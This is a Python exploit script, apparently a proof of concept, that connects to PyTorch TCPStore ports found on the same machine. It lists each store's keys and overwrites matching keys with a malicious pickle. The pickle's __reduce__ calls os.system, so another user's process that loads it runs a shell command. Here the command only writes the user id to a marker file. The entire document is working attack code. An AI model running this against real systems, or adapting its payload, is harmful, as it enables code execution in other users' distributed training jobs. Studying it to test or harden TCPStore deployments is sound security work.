"""Another user of the machine: write a pickle into stores of torch, over their ports.

`python store_attack.py FILE` needs nothing but the standard library. It speaks the protocol of
torch's TCPStore: a query is a byte, and strings with their lengths. It reads lines of JSON, each a
name and a list of addresses and ports (anybody can read them in /proc/net/tcp), and answers each
with the keys of the stores there. Keys that contain the name are overwritten by a pickle that
creates FILE.
"""

from __future__ import annotations

import base64
import encodings.idna  # noqa: F401  (sockets import it late)
import json
import os
import pickle
import socket
import struct
import sys

VALIDATE, SET, LIST_KEYS = 0, 1, 17
MAGIC = 0x3C85F7CE
SECONDS = 0.5
NOBODY = 65534


class Payload:
    """Its pickle runs a command where it is opened."""

    def __init__(self, file: str) -> None:
        self._file = file

    def __reduce__(self) -> tuple[object, ...]:
        return os.system, (f"id -u > '{self._file}'",)


def main() -> None:
    """Attack until stdin is closed."""
    if os.getuid() == 0:  # only now: the interpreter may lie where nobody else can read
        os.setgroups([])
        os.setgid(NOBODY)
        os.setuid(NOBODY)
    content = base64.b64encode(pickle.dumps(Payload(sys.argv[1])))
    while line := sys.stdin.readline():
        name, ends = json.loads(line)
        keys = [key for end in ends for key in attack(tuple(end), name.encode(), content)]
        print(json.dumps([key.decode("latin-1") for key in keys]), flush=True)


def attack(end: tuple[str, int], name: bytes, content: bytes) -> list[bytes]:
    """Overwrite the keys of a store; return all that it has."""
    try:
        with socket.create_connection(end, SECONDS) as peer:
            peer.sendall(bytes([VALIDATE]) + struct.pack("<I", MAGIC) + bytes([LIST_KEYS]))
            stream = peer.makefile("rb")
            keys = [read_bytes(stream) for _ in range(read_number(stream))]
            for key in keys:
                if name in key:
                    peer.sendall(bytes([SET]) + with_length(key) + with_length(content))
            return keys
    except (OSError, EOFError, struct.error):
        return []  # no store


def read_number(stream) -> int:
    """A length."""
    number = struct.unpack("<Q", stream.read(8))[0]
    if number > 1 << 20:
        raise EOFError("not a store")
    return number


def read_bytes(stream) -> bytes:
    """A string with its length."""
    return stream.read(read_number(stream))


def with_length(data: bytes) -> bytes:
    """A string as the protocol has it."""
    return struct.pack("<Q", len(data)) + data


if __name__ == "__main__":
    main()
